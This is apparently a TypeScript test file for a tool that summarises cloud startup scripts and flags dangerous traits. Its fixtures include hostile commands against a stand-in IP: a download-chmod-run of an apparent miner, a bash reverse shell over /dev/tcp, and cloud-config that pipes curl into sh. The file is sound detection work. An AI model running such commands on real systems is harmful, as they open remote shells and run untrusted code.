import assert from 'node:assert/strict';
import { test } from 'node:test';
import { toStartUpStory } from './start-up-story.ts';

const tell = (...texts: readonly string[]) => toStartUpStory(texts.map((text) => Buffer.from(text)));

test('what a script fetches and runs is told in order', () => {
  const told = tell('#!/bin/sh\ncurl -o /tmp/x http://198.51.100.7/x\nchmod +x /tmp/x\n/tmp/x -o pool.example:3333\n');
  assert.deepEqual(told?.story, [
    'downloads http://198.51.100.7/x to /tmp/x',
    'makes it executable',
    'runs it with -o pool.example:3333',
  ]);
});

const traits: readonly (readonly [string, string, readonly string[]])[] = [
  [
    'a program from a bare address',
    'curl -o /tmp/x http://198.51.100.7/x\nchmod +x /tmp/x\n/tmp/x\n',
    ['fetch-and-run'],
  ],
  ['a publisher’s installer', 'curl -fsSL https://get.example.com/install.sh | sh\n', []],
  ['packages and a service', 'apt-get update\napt-get install -y nginx\nsystemctl enable nginx\n', []],
  ['a shell for somebody outside', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n', ['remote-shell']],
  ['a scheduled command', 'echo "0 3 * * * root /opt/backup.sh" > /etc/cron.d/backup\n', []],
];
for (const [what, script, expected] of traits)
  test(`${what} is ${expected.length === 0 ? 'nothing grave' : expected.join()}`, () => {
    assert.deepEqual(tell(`#!/bin/bash\n${script}`)?.traits, expected);
  });

test('an include from a bare address is fetched and run', () => {
  assert.deepEqual(tell('#include\nhttp://198.51.100.7/more')?.traits, ['fetch-and-run']);
});

test('commands of cloud-config find the files that it writes', () => {
  const told = tell(`#cloud-config
write_files: [{ path: /opt/a.sh, content: "curl http://198.51.100.7/y | sh" }]
runcmd: [[sh, /opt/a.sh]]
`);
  assert.match(told?.story.join('; ') ?? '', /198\.51\.100\.7\/y/);
});

test('secrets are in neither', () => {
  const told = tell(
    '#!/bin/sh\nexport DB_PASSWORD=hunter2hunter2\ncurl -H "Authorization: Bearer abcdefghijklmnop" http://u:pw12345@198.51.100.7/x | sh\n',
  );
  assert.ok(told !== undefined);
  for (const secret of ['hunter2hunter2', 'abcdefghijklmnop', 'pw12345'])
    assert.ok(!JSON.stringify(told).includes(secret), secret);
});

test('what is fetched by an include, and what cannot be followed, is told', () => {
  assert.deepEqual(tell('#include\nhttps://198.51.100.7/more')?.story, [
    'fetches https://198.51.100.7/more and does what it says',
  ]);
  assert.deepEqual(tell('<powershell>x</powershell>')?.story, ['holds what was not followed: commands of Windows']);
});

test('nothing is nothing, and much is bounded', () => {
  assert.equal(tell(''), undefined);
  const told = tell(
    `#!/bin/sh\n${Array.from({ length: 5000 }, (_, index) => `curl -o /tmp/${index} http://198.51.100.7/${index}`).join('\n')}`,
  );
  assert.equal(told?.story.length, 25);
  assert.match(told.story.at(-1) ?? '', /^and \d+ more$/);
  assert.ok(told.script.length <= 32 * 1024);
  assert.match(told.unfollowed ?? '', /more than is followed; more text than is kept/);
  assert.equal(tell('#!/bin/sh\nid\n')?.unfollowed, undefined);
});
